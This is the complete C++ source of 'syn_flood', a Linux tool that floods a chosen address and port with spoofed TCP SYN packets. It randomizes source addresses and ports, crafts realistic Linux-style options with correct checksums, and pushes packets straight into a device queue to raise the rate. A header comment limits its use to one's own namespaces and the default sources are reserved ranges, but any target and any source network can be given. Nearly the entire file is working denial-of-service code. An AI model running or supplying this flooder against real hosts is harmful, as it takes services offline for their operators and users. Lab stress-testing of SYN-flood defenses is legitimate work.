// A SYN flood: SYNs of hosts that will never answer, from addresses and ports that change with each
// packet (RFC 4987 §2, CWE-400). Only for namespaces of your own.
//
//   syn_flood --to ADDRESS:PORT|[ADDRESS6]:PORT [--rate PPS] [--seconds N] [--from NETWORK/PREFIX]
//             [--device NAME [--mac MAC]]
//
// `--rate 0` is as fast as it goes. The SYNs are those of a Linux client: MSS, SACK, timestamps,
// window scale, with right checksums, so that nothing but their number is wrong with them. With
// `--device` they are put straight into that device's queue, past routing and queueing discipline:
// two to three times as many. `--mac`: of the next hop, where the device is an Ethernet. Prints how
// many left, how many a second, and (with `--device`) how many found its queue full.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kOptions = 20;
constexpr std::size_t kSegment = 20 + kOptions;
constexpr std::size_t kLongest = 40 + kSegment;
constexpr std::size_t kBatch = 64;  // packets of one system call at most
constexpr double kBurst = 32;       // and at least: a call for each packet would take all the time

using Address = std::array<std::uint8_t, 16>;  // of IPv4 the first four bytes

struct Wish {
  int family = AF_INET;
  Address to{};
  std::uint16_t port = 80;
  double rate = 0;
  double seconds = 5;
  int from_family = AF_UNSPEC;  // the networks of benchmarks or documentation (RFC 2544, RFC 3849)
  Address network{};
  std::uint32_t prefix = 0;
  int device = 0;  // its index; 0: the kernel routes
  std::array<std::uint8_t, 6> mac{};

  [[nodiscard]] bool is_v6() const { return family == AF_INET6; }
  [[nodiscard]] std::size_t address_size() const { return is_v6() ? 16 : 4; }
  [[nodiscard]] std::size_t ip_header() const { return is_v6() ? 40 : 20; }
  [[nodiscard]] std::size_t packet() const { return ip_header() + kSegment; }
  [[nodiscard]] std::size_t source_at() const { return is_v6() ? 8 : 12; }
};

/// Numbers that only have to differ.
class Numbers {
 public:
  std::uint64_t operator()() {
    state_ += 0x9e3779b97f4a7c15;
    std::uint64_t z = state_;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9;
    z = (z ^ (z >> 27)) * 0x94d049bb133111eb;
    return z ^ (z >> 31);
  }

 private:
  std::uint64_t state_ = static_cast<std::uint64_t>(::getpid()) << 32;
};

void store16(std::uint8_t* at, std::uint32_t value) {
  at[0] = static_cast<std::uint8_t>(value >> 8);
  at[1] = static_cast<std::uint8_t>(value);
}
std::uint32_t sum(const std::uint8_t* at, std::size_t size, std::uint32_t total = 0) {
  for (std::size_t i = 0; i < size; i += 2) {
    total += static_cast<std::uint32_t>(at[i] << 8 | at[i + 1]);
  }
  return total;
}
std::uint32_t folded(std::uint32_t total) {
  while (total > 0xffff) total = (total & 0xffff) + (total >> 16);
  return ~total & 0xffff;
}

/// A SYN, and the sums of what stays the same in all of them.
class Syn {
 public:
  explicit Syn(const Wish& wish) : wish_(wish), hosts_(hosts_of(wish)) {
    std::uint8_t* const ip = bytes_.data();
    if (wish.is_v6()) {
      ip[0] = 0x60;
      store16(ip + 4, kSegment);
      ip[6] = IPPROTO_TCP;
      ip[7] = 64;
    } else {
      ip[0] = 0x45;
      store16(ip + 2, static_cast<std::uint32_t>(wish.packet()));
      ip[6] = 0x40;  // don't fragment
      ip[8] = 64;
      ip[9] = IPPROTO_TCP;
    }
    const std::size_t to_at = wish.source_at() + wish.address_size();
    std::memcpy(ip + to_at, wish.to.data(), wish.address_size());
    std::uint8_t* const tcp = ip + wish.ip_header();
    store16(tcp + 2, wish.port);
    tcp[12] = kSegment / 4 << 4;
    tcp[13] = 0x02;
    store16(tcp + 14, 64240);
    constexpr std::array<std::uint8_t, kOptions> kLinuxOptions = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0,
                                                                  0, 0, 0, 0,    0, 0, 1, 3,  3, 7};
    std::memcpy(tcp + 20, kLinuxOptions.data(), kOptions);
    same_ip_ = sum(ip, wish.ip_header());
    same_tcp_ = sum(tcp, kSegment) + sum(ip + to_at, wish.address_size()) + IPPROTO_TCP + kSegment;
  }
  [[nodiscard]] std::uint8_t* data() { return bytes_.data(); }

  /// Another source address, port, sequence number and timestamp, and the checksums for them.
  void vary(Numbers& numbers) {
    std::uint8_t* const source = bytes_.data() + wish_.source_at();
    const std::array<std::uint64_t, 4> random{numbers(), numbers(), numbers(), numbers()};
    Address host;
    std::memcpy(host.data(), random.data(), host.size());
    for (std::size_t i = 0; i < wish_.address_size(); ++i) {
      source[i] = static_cast<std::uint8_t>(wish_.network[i] | (host[i] & hosts_[i]));
    }
    const std::uint32_t of_source = sum(source, wish_.address_size());
    std::uint8_t* const tcp = bytes_.data() + wish_.ip_header();
    store16(tcp, 1024 + static_cast<std::uint32_t>(random[2] >> 32) % 64000);
    std::memcpy(tcp + 4, &random[3], 4);
    std::memcpy(tcp + 28, &random[2], 4);
    const std::uint32_t of_segment = sum(tcp, 2) + sum(tcp + 4, 4) + sum(tcp + 28, 4);
    if (!wish_.is_v6()) store16(bytes_.data() + 10, folded(same_ip_ + of_source));
    store16(tcp + 16, folded(same_tcp_ + of_source + of_segment));
  }

 private:
  static Address hosts_of(const Wish& wish) {
    Address bits{};
    for (std::uint32_t i = wish.prefix; i < 8 * wish.address_size(); ++i) {
      bits[i / 8] = static_cast<std::uint8_t>(bits[i / 8] | 0x80 >> i % 8);
    }
    return bits;
  }

  const Wish& wish_;
  Address hosts_;
  std::array<std::uint8_t, kLongest> bytes_{};
  std::uint32_t same_ip_ = 0;
  std::uint32_t same_tcp_ = 0;
};

/// Where the packets go in: a raw socket, or the queue of a device.
struct Door {
  int fd = -1;
  sockaddr_storage to{};
  socklen_t to_size = 0;
};

Door routed(const Wish& wish) {
  Door door;
  door.fd = ::socket(wish.family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (wish.is_v6()) {
    sockaddr_in6 to{};
    to.sin6_family = AF_INET6;
    std::memcpy(&to.sin6_addr, wish.to.data(), 16);
    std::memcpy(&door.to, &to, door.to_size = sizeof to);
  } else {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    std::memcpy(&to.sin_addr, wish.to.data(), 4);
    std::memcpy(&door.to, &to, door.to_size = sizeof to);
  }
  return door;
}

Door straight(const Wish& wish) {
  Door door;
  door.fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);  // 0: it receives nothing
  const int on = 1;
  static_cast<void>(::setsockopt(door.fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on));
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_protocol = htons(wish.is_v6() ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
  to.sll_ifindex = wish.device;
  to.sll_halen = 6;
  std::memcpy(to.sll_addr, wish.mac.data(), wish.mac.size());
  std::memcpy(&door.to, &to, door.to_size = sizeof to);
  return door;
}

int flood(const Wish& wish) {
  Door door = wish.device != 0 ? straight(wish) : routed(wish);
  if (door.fd < 0) {
    std::perror("syn_flood: socket");
    return 1;
  }
  const int room = 8 << 20;
  static_cast<void>(::setsockopt(door.fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room));
  std::vector<Syn> packets(kBatch, Syn(wish));
  std::array<iovec, kBatch> pieces{};
  std::array<mmsghdr, kBatch> messages{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    pieces[i] = {packets[i].data(), wish.packet()};
    messages[i].msg_hdr.msg_name = &door.to;
    messages[i].msg_hdr.msg_namelen = door.to_size;
    messages[i].msg_hdr.msg_iov = &pieces[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  Numbers numbers;
  const auto start = Clock::now();
  const auto elapsed = [&] { return std::chrono::duration<double>(Clock::now() - start).count(); };
  std::uint64_t sent = 0;
  std::uint64_t refused = 0;
  for (double now = 0; now < wish.seconds; now = elapsed()) {
    const double due = wish.rate == 0 ? kBatch : now * wish.rate - static_cast<double>(sent);
    if (due < std::min(kBurst, wish.rate == 0 ? kBurst : wish.rate / 100)) continue;  // spins
    const auto count = static_cast<unsigned>(std::clamp(due, 1.0, double{kBatch}));
    for (unsigned i = 0; i < count; ++i) packets[i].vary(numbers);
    for (unsigned at = 0; at < count;) {
      const int done = ::sendmmsg(door.fd, &messages[at], count - at, 0);
      if (done < 0 && errno != ENOBUFS) {
        std::perror("syn_flood: send");
        return 1;
      }
      if (done < 0) ++refused;  // the device's queue is full: this one came as far as that
      const unsigned step = done < 0 ? 1 : static_cast<unsigned>(done);
      at += step;
      sent += step;
    }
  }
  std::printf("%llu SYNs, %.0f a second, %llu refused\n", static_cast<unsigned long long>(sent),
              static_cast<double>(sent) / elapsed(), static_cast<unsigned long long>(refused));
  return 0;
}

// An address of either version; AF_UNSPEC: it is none.
int read_address(const std::string& text, Address& address) {
  if (::inet_pton(AF_INET, text.c_str(), address.data()) == 1) return AF_INET;
  return ::inet_pton(AF_INET6, text.c_str(), address.data()) == 1 ? AF_INET6 : AF_UNSPEC;
}

// "ADDRESS:PORT" or "[ADDRESS6]:PORT"; false: it is none.
bool read_target(const std::string& text, Wish& wish) {
  const std::size_t colon = text.rfind(':');
  if (colon == std::string::npos) return false;
  std::string address = text.substr(0, colon);
  if (address.size() > 2 && address.front() == '[') address = address.substr(1, address.size() - 2);
  wish.port = static_cast<std::uint16_t>(std::atoi(text.c_str() + colon + 1));
  wish.family = read_address(address, wish.to);
  return wish.port != 0 && wish.family != AF_UNSPEC;
}

bool read_sources(const std::string& text, Wish& wish) {
  const std::size_t slash = text.find('/');
  if (slash == std::string::npos) return false;
  wish.from_family = read_address(text.substr(0, slash), wish.network);
  wish.prefix = static_cast<std::uint32_t>(std::atoi(text.c_str() + slash + 1));
  return wish.from_family != AF_UNSPEC && wish.prefix <= (wish.from_family == AF_INET ? 32 : 128);
}

bool read_mac(const std::string& text, Wish& wish) {
  auto& mac = wish.mac;
  return std::sscanf(text.c_str(), "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx", &mac[0], &mac[1], &mac[2],
                     &mac[3], &mac[4], &mac[5]) == 6;
}

bool read_option(const std::string& option, const std::string& value, Wish& wish) {
  if (option == "--to") return read_target(value, wish);
  if (option == "--from") return read_sources(value, wish);
  if (option == "--mac") return read_mac(value, wish);
  if (option == "--device") {
    return (wish.device = static_cast<int>(::if_nametoindex(value.c_str()))) != 0;
  }
  if (option == "--rate") {
    wish.rate = std::max(std::atof(value.c_str()), 0.0);
  } else if (option == "--seconds") {
    wish.seconds = std::clamp(std::atof(value.c_str()), 0.0, 600.0);
  } else {
    return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  Wish wish;
  bool good = argc % 2 == 1;
  bool has_target = false;
  for (int i = 1; good && i + 1 < argc; i += 2) {
    good = read_option(argv[i], argv[i + 1], wish);
    has_target = has_target || std::string(argv[i]) == "--to";
  }
  if (wish.from_family == AF_UNSPEC) {
    read_sources(wish.is_v6() ? "2001:db8::/32" : "198.18.0.0/15", wish);
  }
  if (!good || !has_target || wish.from_family != wish.family) {
    std::fputs(
        "usage: syn_flood --to ADDRESS:PORT|[ADDRESS6]:PORT [--rate PPS] [--seconds N]\n"
        "                 [--from NETWORK/PREFIX] [--device NAME [--mac MAC]]\n",
        stderr);
    return 2;
  }
  return flood(wish);
}
